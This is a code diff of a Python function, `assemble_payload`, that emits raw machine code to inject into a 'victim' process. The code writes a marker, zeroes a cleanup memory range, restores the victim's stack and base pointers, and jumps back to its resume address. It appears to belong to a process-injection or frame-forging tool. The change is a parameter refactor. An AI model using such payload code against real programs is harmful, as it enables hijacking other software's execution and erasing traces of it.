@@ -354,21 +354,23 @@ def payload_len(cleanup_bytes: int) -> int:
 
 
 def assemble_payload(
-    resume,
     cleanup: tuple[int, int],
     marker: tuple[int, int],
+    resume_rsp: int,
+    resume_rbp: int,
+    resume_rip: int,
 ) -> bytes:
     """Emit position-independent bytes (from the supported subset only) that:
 
     1. write the marker value to the marker address,
     2. zero the cleanup range ``(start, length)`` with unrolled 8-byte stores,
-    3. load the stack and base pointers the victim resumes with,
-    4. jump to the victim's resume address.
+    3. load ``resume_rsp`` and ``resume_rbp`` into the stack and base
+       pointers,
+    4. jump to ``resume_rip``.
 
-    ``resume`` must expose resume_rip/resume_rsp/resume_rbp, as
-    ``injector.VictimFrame`` does.  The range must be 8-byte divisible and
-    no larger than MAX_CLEANUP_BYTES, since each zeroed 8 bytes costs 13
-    instruction bytes.
+    ``injector.forge_fake_frame`` passes the victim's values and places the
+    blob.  The range must be 8-byte divisible and no larger than
+    MAX_CLEANUP_BYTES, since each zeroed 8 bytes costs 13 instruction bytes.
     """
     marker_addr, marker_value = marker
     start, length = cleanup
@@ -392,9 +394,9 @@ def assemble_payload(
         out += enc_mov_ri("rdi", start + off)
         out += enc_store("rdi", "rsi")
 
-    out += enc_mov_ri("rsp", resume.resume_rsp)
-    out += enc_mov_ri("rbp", resume.resume_rbp)
-    out += enc_mov_ri("rcx", resume.resume_rip)
+    out += enc_mov_ri("rsp", resume_rsp)
+    out += enc_mov_ri("rbp", resume_rbp)
+    out += enc_mov_ri("rcx", resume_rip)
     out += enc_jmp_r("rcx")
     assert len(out) == payload_len(length)
     return bytes(out)
